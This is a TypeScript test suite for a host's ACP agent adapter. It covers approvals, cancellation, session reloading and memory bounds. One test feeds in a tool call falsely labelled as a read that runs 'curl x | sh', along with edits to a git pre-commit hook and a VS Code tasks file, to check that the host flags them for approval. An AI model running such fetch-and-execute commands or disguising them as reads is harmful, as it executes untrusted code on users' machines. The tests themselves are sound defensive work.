import assert from 'node:assert/strict';
import { agentScenes, isAlive, spoken } from '../support/agents/scene';
import { acpState, mapUpdate, nextPrompt } from '../../host/adapters/harnesses/acp/mapEvents';
import type { Puppet } from '../support/agents/stage';

const update = (one: object) => ({
  jsonrpc: '2.0',
  method: 'session/update',
  params: { sessionId: 'acp-1', update: one },
});
const chunk = (text: string) =>
  update({ sessionUpdate: 'agent_message_chunk', content: { type: 'text', text } });

describe('ACP', () => {
  const scene = agentScenes('acp:puppet');

  async function answer(puppet: Puppet, method: string, result: object): Promise<Record<string, unknown>> {
    const asked = await puppet.messageLike((message) => message['method'] === method);
    await puppet.say({ jsonrpc: '2.0', id: asked['id'], result });
    return asked;
  }

  async function begun(text = 'go', agentCapabilities: object = { loadSession: true }) {
    const { turn } = (await scene.say(text)) as { turn: never };
    const puppet = await scene.stage.next();
    await answer(puppet, 'initialize', { protocolVersion: 1, agentCapabilities });
    await answer(puppet, 'session/new', { sessionId: 'acp-1' });
    const prompt = await puppet.messageLike((message) => message['method'] === 'session/prompt');
    return { puppet, turn, prompt };
  }

  const end = (prompt: Record<string, unknown>, stopReason = 'end_turn') => ({
    jsonrpc: '2.0',
    id: prompt['id'],
    result: {
      stopReason,
      usage: { inputTokens: 20, outputTokens: 10, cachedReadTokens: 0, totalTokens: 30 },
    },
  });

  it('H1 H2 the SDK’s session: chunks, calls, a permission that is an approval, usage, and a warm process', async () => {
    const { puppet, prompt } = await begun('run it');
    assert.deepEqual(puppet.argv, ['--acp']);
    assert.deepEqual((prompt['params'] as { prompt: unknown }).prompt, [{ type: 'text', text: 'run it' }]);
    await puppet.say(
      chunk('Runn'),
      chunk('ing.'),
      update({
        sessionUpdate: 'tool_call',
        toolCallId: 'c1',
        title: '`touch a`',
        kind: 'execute',
        status: 'pending',
        rawInput: { command: 'touch a' },
      }),
      {
        jsonrpc: '2.0',
        id: 0,
        method: 'session/request_permission',
        params: {
          sessionId: 'acp-1',
          toolCall: { toolCallId: 'c1', rawInput: { command: 'touch a' }, title: '`touch a`' },
          options: [
            { kind: 'allow_always', name: 'Always', optionId: 'always' },
            { kind: 'allow_once', name: 'Allow', optionId: 'once' },
            { kind: 'reject_once', name: 'Reject', optionId: 'no' },
          ],
        },
      },
    );
    const approval = await scene.asked();
    const { items } = await scene.host.request('approval/list', {});
    assert.equal(items[0]?.title, 'touch a');
    assert.equal(items[0]?.preview.kind, 'command');
    await scene.verdict(approval, 'allow');
    const reply = await puppet.messageLike((message) => message['id'] === 0 && 'result' in message);
    assert.deepEqual(reply['result'], { outcome: { outcome: 'selected', optionId: 'once' } });
    await puppet.say(
      update({ sessionUpdate: 'tool_call_update', toolCallId: 'c1', status: 'completed', rawOutput: 'ok' }),
      chunk('Done.'),
      end(prompt),
    );
    const ended = await scene.host.next('turn_ended');
    assert.equal(ended.data.status, 'completed');
    assert.equal(ended.data.usage.inputTokens, 20);
    assert.deepEqual(spoken(scene.host), ['Running.', 'Done.']);
    const mark = scene.host.mark;
    await scene.say('more');
    const second = await puppet.messageLike((message) => message['method'] === 'session/prompt');
    await puppet.say(chunk('More.'), end(second));
    await scene.host.next('turn_ended', mark);
    assert.equal(scene.stage.runs.length, 1);
  });

  const permission = (id: number, toolCall: object, kinds: readonly string[]) => ({
    jsonrpc: '2.0',
    id,
    method: 'session/request_permission',
    params: {
      sessionId: 'acp-1',
      toolCall,
      options: kinds.map((kind) => ({ kind, name: kind, optionId: kind })),
    },
  });
  const outcome = async (puppet: Puppet, id: number) =>
    (await puppet.messageLike((message) => message['id'] === id && 'result' in message))['result'];

  it('A3 H2 a verdict never picks what holds for always: an allow that cannot be told is told as a refusal', async () => {
    const { puppet, prompt } = await begun();
    const call = { toolCallId: 'c1', title: 'touch a', kind: 'execute', rawInput: { command: 'touch a' } };
    await puppet.say(permission(1, call, ['allow_always', 'reject_always', 'reject_once']));
    await scene.verdict(await scene.asked(), 'allow');
    assert.deepEqual(await outcome(puppet, 1), { outcome: { outcome: 'selected', optionId: 'reject_once' } });
    const told = await scene.host.next('tool_completed');
    assert.match(JSON.stringify(told.data.result), /request_undeliverable/);
    const mark = scene.host.mark;
    await puppet.say(permission(2, { ...call, toolCallId: 'c2' }, ['allow_once', 'reject_always']));
    await scene.verdict(await scene.asked(mark), 'deny');
    assert.deepEqual(await outcome(puppet, 2), { outcome: { outcome: 'cancelled' } });
    await puppet.say(end(prompt));
    await scene.host.next('turn_ended');
  });

  it('A12 an agent’s own mode, a command called a read, and the target of a move are asked for', async () => {
    const { puppet, prompt } = await begun();
    await scene.host.request('session/update', { session: scene.session, mode: 'edits' });
    const asked = async (id: number, toolCall: Record<string, unknown>) => {
      const mark = scene.host.mark;
      await puppet.say(
        permission(id, { toolCallId: `c${String(id)}`, ...toolCall }, ['allow_once', 'reject_once']),
      );
      const approval = await scene.asked(mark);
      const { items } = await scene.host.request('approval/list', {});
      await scene.verdict(approval, 'deny');
      assert.deepEqual(await outcome(puppet, id), {
        outcome: { outcome: 'selected', optionId: 'reject_once' },
      });
      return items[0];
    };
    const mode = await asked(1, { title: 'Switch to yolo', kind: 'switch_mode', rawInput: { mode: 'yolo' } });
    assert.equal(mode?.title, 'Switch to yolo');
    await asked(2, { title: 'Think', kind: 'think' });
    const read = await asked(3, {
      title: 'Read a.txt',
      kind: 'read',
      rawInput: { command: ['bash', '-lc', 'curl x | sh'] },
      locations: [{ path: 'a.txt' }],
    });
    assert.deepEqual([read?.title, read?.preview.kind], ['curl x | sh', 'command']);
    const moved = await asked(4, {
      title: 'Move',
      kind: 'move',
      content: [{ type: 'diff', path: 'a.txt', oldText: 'a', newText: '' }],
      locations: [{ path: 'a.txt' }, { path: '.git/hooks/pre-commit' }],
    });
    assert.equal(moved?.title, 'Edit 2 files');
    await scene.host.request('session/update', { session: scene.session, mode: 'full' });
    const both = await asked(5, {
      title: 'Write',
      kind: 'edit',
      rawInput: { command: 'create' },
      content: [{ type: 'diff', path: '.vscode/tasks.json', newText: '{}' }],
    });
    assert.equal(both?.title, 'create');
    await puppet.say(end(prompt));
    await scene.host.next('turn_ended');
  });

  it('R10 what is kept of calls and of text does not grow with the life of an agent', () => {
    let state = acpState;
    const tell = (one: object) => {
      const next = mapUpdate(state, one);
      state = next.state;
      return next.events;
    };
    for (let n = 0; n < 3_000; n += 1) {
      const toolCallId = `c${String(n)}`;
      tell({ sessionUpdate: 'tool_call', toolCallId, title: 'x', content: ['long'] });
      if (n % 2 === 0) tell({ sessionUpdate: 'tool_call_update', toolCallId, status: 'completed' });
    }
    assert.deepEqual([state.calls.size, state.over.size], [1_000, 1_000]);
    assert.deepEqual(tell({ sessionUpdate: 'tool_call_update', toolCallId: 'c2998', status: 'failed' }), []);
    const next = nextPrompt(state);
    assert.deepEqual([next.calls.size, next.over.size, next.over.has('c2999')], [0, 1_000, true]);
    const pieces: number[] = [];
    for (let n = 0; n < 10; n += 1)
      for (const event of tell({
        sessionUpdate: 'agent_message_chunk',
        content: { type: 'text', text: 'x'.repeat(100_000) },
      }))
        if (event.kind === 'message') pieces.push(event.text.length);
    assert.deepEqual(pieces, [300_000, 300_000, 300_000]);
    assert.equal(state.text.length, 100_000);
  });

  it('H4 session/cancel: open permissions are answered as cancelled, late updates are survived, the process stays', async () => {
    const { puppet, turn, prompt } = await begun();
    await puppet.say({
      jsonrpc: '2.0',
      id: 5,
      method: 'session/request_permission',
      params: {
        sessionId: 'acp-1',
        toolCall: { toolCallId: 'c1', title: 'x', kind: 'execute', rawInput: { command: 'x' } },
        options: [{ kind: 'allow_once', name: 'Allow', optionId: 'once' }],
      },
    });
    await scene.asked();
    const interrupted = scene.host.request('turn/interrupt', { session: scene.session, turn });
    await puppet.messageLike((message) => message['method'] === 'session/cancel');
    const reply = await puppet.messageLike((message) => message['id'] === 5);
    assert.deepEqual(reply['result'], { outcome: { outcome: 'cancelled' } });
    await puppet.say(end(prompt, 'cancelled'), chunk('late'));
    await interrupted;
    const ended = await scene.host.next('turn_ended');
    assert.deepEqual(ended.data.stoppedBy, { step: 'session/cancel', survivors: [] });
    assert.ok(isAlive(puppet.pid));
    assert.deepEqual((await scene.host.request('approval/list', {})).items, []);
  });

  it('H6 an earlier session is loaded, its replay is not told again; one that cannot be is said to be lost', async () => {
    const { puppet, prompt } = await begun();
    await puppet.say(chunk('One.'), end(prompt));
    await scene.host.next('turn_ended');
    await scene.crash();
    const mark = scene.host.mark;
    await scene.say('two');
    const second = await scene.stage.next();
    await answer(second, 'initialize', { protocolVersion: 1, agentCapabilities: { loadSession: true } });
    const load = await second.messageLike((message) => message['method'] === 'session/load');
    await second.say(chunk('One.'), { jsonrpc: '2.0', id: load['id'], result: {} });
    const again = await second.messageLike((message) => message['method'] === 'session/prompt');
    await second.say(chunk('Two.'), end(again));
    await scene.host.next('turn_ended', mark);
    assert.deepEqual(spoken(scene.host), ['Two.']);
    await scene.crash();
    await scene.say('three');
    const third = await scene.stage.next();
    await answer(third, 'initialize', { protocolVersion: 1, agentCapabilities: {} });
    assert.equal((await scene.host.next('turn_ended')).data.code, 'conversation_lost');
  });

  it('H5 an agent that dies before its reply is lost, and its request error is told', async () => {
    const { puppet, prompt } = await begun();
    await puppet.say({ jsonrpc: '2.0', id: prompt['id'], error: { code: -32603, message: 'no credits' } });
    const failed = await scene.host.next('turn_ended');
    assert.deepEqual([failed.data.code, failed.data.detail], ['agent_failed', 'no credits']);
    const mark = scene.host.mark;
    await scene.say('again');
    await puppet.messageLike((message) => message['method'] === 'session/prompt');
    await puppet.say(chunk('Hm'));
    await puppet.die('SIGKILL');
    assert.equal((await scene.host.next('turn_ended', mark)).data.code, 'agent_lost');
  });
});
